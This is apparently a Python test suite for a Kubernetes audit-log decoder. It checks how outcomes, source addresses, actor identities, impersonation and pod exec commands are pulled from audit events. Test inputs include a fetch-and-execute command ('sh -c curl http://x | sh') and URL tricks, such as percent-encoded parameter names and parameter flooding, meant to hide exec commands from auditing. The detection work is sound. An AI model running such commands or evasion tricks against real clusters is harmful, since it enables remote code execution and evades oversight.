"""Who, from where, with what result, which command."""

from __future__ import annotations

import pytest

from tests.decode.given import audit, one


@pytest.mark.parametrize(
    ("code", "decision", "expected"),
    [
        (200, "allow", "success"),
        (201, "allow", "success"),
        (302, "allow", "success"),
        (101, "allow", "success"),
        (401, "allow", "denied"),
        (403, "allow", "denied"),
        (200, "forbid", "denied"),
        (404, "allow", "error"),
        (409, "allow", "error"),
        (500, "allow", "error"),
        (None, "allow", "unknown"),
        (None, "forbid", "denied"),
        (100, "allow", "unknown"),
    ],
)
def test_outcome_comes_from_the_code_and_the_authorizers_decision(code, decision, expected):
    """[A5] success, denied, error or unknown."""
    status = {"code": code} if code is not None else None
    event = one(audit(responseStatus=status, annotations={"authorization.k8s.io/decision": decision}))
    assert event.fields["outcome"] == expected


@pytest.mark.parametrize(
    ("trusted", "expected"), [(0, "192.0.2.3"), (1, "203.0.113.2"), (2, "198.51.100.1"), (9, "198.51.100.1")]
)
def test_the_source_address_is_the_last_that_no_client_can_write(trusted, expected):
    event = one(audit(sourceIPs=["198.51.100.1", "203.0.113.2", "192.0.2.3"]), trusted_proxies=trusted)
    assert event.fields["source"] == {"ip": expected}


def test_without_addresses_there_is_no_source():
    assert "source" not in one(audit(sourceIPs=[])).fields


@pytest.mark.parametrize(
    ("username", "kind"),
    [
        ("alice", "user"),
        ("system:anonymous", "anonymous"),
        ("system:serviceaccount:kubeflow:argo", "service_account"),
        ("system:node:node-1", "node"),
        ("system:kube-scheduler", "system"),
        ("", "user"),
    ],
)
def test_the_kind_of_actor_is_told_by_the_name(username, kind):
    assert one(audit(user={"username": username})).fields["actor"]["kind"] == kind


def test_an_impersonated_identity_stands_beside_the_actor():
    """[A5] the actor is who authenticated; an impersonated identity is named beside, never instead."""
    actor = one(audit(impersonatedUser={"username": "system:admin"})).fields["actor"]
    assert (actor["name"], actor["effective"]) == ("alice", "system:admin")


def test_the_calling_pod_and_its_credential_are_exact_joins():
    extra = {
        "authentication.kubernetes.io/pod-name": ["nb-0"],
        "authentication.kubernetes.io/pod-uid": ["51be"],
        "authentication.kubernetes.io/credential-id": ["JTI=1"],
    }
    user = {"username": "system:serviceaccount:lab:default-editor", "extra": extra}
    actor = one(audit(user=user)).fields["actor"]
    assert actor["pod"] == {"name": "nb-0", "uid": "51be"}
    assert actor["credential_id"] == "JTI=1"
    assert actor["namespace"] == "lab"


@pytest.mark.parametrize("verb", ["get", "create"])
def test_the_command_of_an_exec_is_read_from_the_address(verb):
    uri = "/api/v1/namespaces/lab/pods/p/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fx+%7C+sh&container=main"
    ref = {"resource": "pods", "subresource": "exec", "name": "p", "namespace": "lab"}
    event = one(audit(verb=verb, objectRef=ref, requestURI=uri))
    assert event.fields["exec"] == {"command": "sh -c curl http://x | sh", "container": "main"}


def test_a_run_through_the_nodes_kubelet_is_an_exec_too():
    ref = {"resource": "nodes", "subresource": "proxy", "name": "n1"}
    uri = "/api/v1/nodes/n1/proxy/run/lab/p/main?cmd=id"
    assert one(audit(verb="create", objectRef=ref, requestURI=uri)).fields["exec"] == {"command": "id"}


def test_a_read_through_the_nodes_kubelet_is_none():
    ref = {"resource": "nodes", "subresource": "proxy", "name": "n1"}
    assert "exec" not in one(audit(objectRef=ref, requestURI="/api/v1/nodes/n1/proxy/metrics?cmd=id")).fields


def test_half_a_million_parameters_are_no_problem():
    ref = {"resource": "pods", "subresource": "exec"}
    event = one(audit(objectRef=ref, requestURI="/exec?" + "&command=a" * 150_000))
    assert event.fields["exec"]["command"].startswith("a a")


@pytest.mark.parametrize(
    ("resource", "path", "query"),
    [
        ("pods", "/api/v1/namespaces/n/pods/p/exec", "x=1&" * 10_001 + "command=id"),
        ("pods", "/api/v1/namespaces/n/pods/p/exec", "%63ommand=id"),
        ("nodes", "/api/v1/nodes/n/proxy/%72un/ns/p/c", "cmd=id"),
    ],
)
def test_neither_other_parameters_nor_encoding_hide_a_command(resource, path, query):
    ref = {"resource": resource, "subresource": "proxy" if resource == "nodes" else "exec"}
    event = one(audit(verb="get", objectRef=ref, requestURI=f"{path}?{query}"))
    assert event.fields["exec"]["command"] == "id"
